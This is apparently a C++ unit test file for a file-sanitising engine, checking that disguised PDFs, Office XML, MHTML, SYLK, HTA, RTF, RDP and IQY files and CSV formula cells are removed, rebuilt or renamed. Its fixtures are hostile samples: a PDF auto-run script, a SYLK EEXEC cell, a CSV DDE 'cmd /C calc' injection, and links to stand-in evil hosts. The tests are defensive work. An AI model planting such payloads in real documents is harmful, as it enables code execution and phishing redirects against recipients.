// Issue 10, class 1 ("it is text, so keep it"): text is routed by what its first KB says it is,
// what is kept as text is delivered under a name that opens as text, and CSV formula cells are
// neutralised. Every fixture is built here. tests/cli/cli_test.cpp runs `mugai file` over the
// list of text-like extensions.
#include <catch2/catch.hpp>

#include "mugai/pipeline/pipeline.h"
#include "support/raw_pdf.h"
#include "support/engine_fixture.h"
#include "support/mail_builder.h"

using namespace mugai;

namespace {

const Engine& engine() { return test::shippedEngine(); }

/// A small, valid PDF whose catalog runs JavaScript when opened.
std::string pdfWithOpenAction() {
  std::vector<std::string> objs = {
      "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"};
  return mugai::test::pdfFromObjects(objs);
}

bool delivered(const ProcessResult& r) { return !r.blocked() && !r.output_filename.empty(); }

}  // namespace

TEST_CASE("text route: a PDF behind text is never kept as text", "[text_route]") {
  for (const std::string& prefix : {std::string("Invoice notes\n"), std::string(600, 'a') + "\n",
                                    std::string("\xEF\xBB\xBFnotes\r\n")}) {
    std::string data = prefix + pdfWithOpenAction();
    for (const std::string& name : {std::string("invoice.pdf"), std::string("invoice.txt")}) {
      INFO(name << " after " << prefix.size() << " bytes of text");
      ProcessResult r = engine().processFile(data, name, "P1");
      // libmagic finds a PDF header near the start by itself; further in, only the text route
      // does. Either way the PDF chain rebuilds it (without the script) or it is removed; it is
      // never kept as text with its bytes.
      bool routed = false, seen_as_pdf = false;
      for (const auto& a : r.report.actions) {
        seen_as_pdf |= a.detected_type == "application/pdf";
        for (const auto& f : a.findings) routed |= f.key == "routed_as" && f.value.rfind("application/pdf", 0) == 0;
      }
      CHECK((routed || seen_as_pdf));
      if (delivered(r)) {
        CHECK(r.output.rfind("%PDF-", 0) == 0);
        CHECK(r.output.find("JavaScript") == std::string::npos);
        CHECK(r.output != data);
        if (routed) CHECK(r.output_filename.substr(r.output_filename.size() - 4) == ".pdf");
      } else {
        CHECK(r.report.reason != Reason::Kept);
      }
    }
  }
}

TEST_CASE("text route: Flat OPC, mso-application XML, MHTML and SYLK are removed", "[text_route]") {
  struct Case {
    std::string name, data;
  };
  std::vector<Case> cases = {
      {"report.doc", "<?xml version=\"1.0\" standalone=\"yes\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
                     "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
                     "<pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>0M8R4KGxGuEAAAAA</pkg:binaryData>"
                     "</pkg:part></pkg:package>\n"},
      {"sheet.xls", "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n<Workbook "
                    "xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"></Workbook>\n"},
      {"page.doc", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"b\"\n\n--b\n"
                   "Content-Location: file:///C:/x.htm\nContent-Type: text/html\n\n<script>alert(1)</script>\n--b--\n"},
      {"notes.txt", "Content-Location: file:///C:/x.htm\nContent-Transfer-Encoding: quoted-printable\n\nhi\n"},
      {"data.csv", "ID;P\nC;Y1;X1;EEXEC(\"calc\")\nE\n"},
  };
  for (const auto& c : cases) {
    INFO(c.name);
    ProcessResult r = engine().processFile(c.data, c.name, "X1");
    CHECK_FALSE(delivered(r));
    // libmagic knows SYLK itself (application/x-sylk: no rule, removed); the rest only we see.
    CHECK((r.report.reason == Reason::TypeDisguised || r.report.reason == Reason::TypeRemoved));
  }
}

TEST_CASE("text route: markup and RTF behind a text name go to their chains", "[text_route]") {
  ProcessResult html = engine().processFile("Dear staff,\n<script>location='http://evil/'</script><b>hi</b>\n",
                                            "memo.txt", "M1");
  REQUIRE(delivered(html));
  CHECK(html.output.find("<script") == std::string::npos);
  CHECK(html.output_filename == "memo.txt");
  ProcessResult hta = engine().processFile("rem\n<hta:application id=x>\n<script>new ActiveXObject('WScript.Shell')</script>\n",
                                           "readme.txt", "M2");
  if (delivered(hta)) CHECK(hta.output.find("ActiveXObject") == std::string::npos);
  ProcessResult rtf = engine().processFile("notes first\n{\\rtf1 {\\object\\objdata 0102}}\n", "memo.txt", "M3");
  CHECK_FALSE((delivered(rtf) && rtf.output.find("objdata") != std::string::npos));
}

TEST_CASE("text route: kept text is delivered under a name that opens as text", "[text_route]") {
  struct Case {
    std::string name, data, expect;
  };
  std::vector<Case> cases = {
      {"connect.rdp", "full address:s:evil.example.com\ndrivestoredirect:s:*\n", "connect.rdp.txt"},
      {"query.iqy", "WEB\n1\nhttp://evil.example.com/q?x=1\n", "query.iqy.txt"},
      {"blue.theme", "[Control Panel\\Desktop]\nWallpaper=\\\\evil\\share\\a.bmp\n", "blue.theme.txt"},
      {"run.pyw", "print('x')\n", "run.pyw.txt"},
      {"notes.txt", "plain notes\n", "notes.txt"},
      {"server.log", "12:00 started\n", "server.log"},
  };
  for (const auto& c : cases) {
    INFO(c.name);
    ProcessResult r = engine().processFile(c.data, c.name, "N1");
    REQUIRE(delivered(r));
    CHECK(r.output_filename == c.expect);
    CHECK(r.output == c.data);  // the bytes are kept; only the name changed
    if (c.expect != c.name) CHECK(r.verdict == Verdict::Modified);
  }
  // In a mail, the notice says under which name it arrives.
  std::string mail = test::buildMail("rdp", "see attached", {{"application/x-rdp", "connect.rdp",
                                                               "full address:s:evil.example.com\n"}});
  ProcessResult m = engine().processMessage(mail, Envelope{"a@example.com", {"b@city.example.lg.jp"}}, "N2");
  CHECK(m.output.find("connect.rdp.txt") != std::string::npos);
}

TEST_CASE("text route: CSV formulas are neutralised in .csv and .tsv files", "[text_route]") {
  ProcessResult r = engine().processFile("name,cmd\nx,=cmd|' /C calc'!A0\ny,=HYPERLINK(\"http://evil/\")\n",
                                         "list.csv", "C1");
  REQUIRE(delivered(r));
  CHECK(r.output_filename == "list.csv");
  CHECK(r.output == "name,cmd\nx,'=cmd|' /C calc'!A0\ny,'=HYPERLINK(\"http://evil/\")\n");
  CHECK(r.report.reason == Reason::CdrRebuilt);
  ProcessResult tsv = engine().processFile("a\t@SUM(1)\n", "t.tsv", "C2");
  REQUIRE(delivered(tsv));
  CHECK(tsv.output == "a\t'@SUM(1)\n");
  ProcessResult clean = engine().processFile("a,b\n1,2\n", "ok.csv", "C3");
  REQUIRE(delivered(clean));
  CHECK(clean.output == "a,b\n1,2\n");
  CHECK(clean.verdict == Verdict::Pass);
}
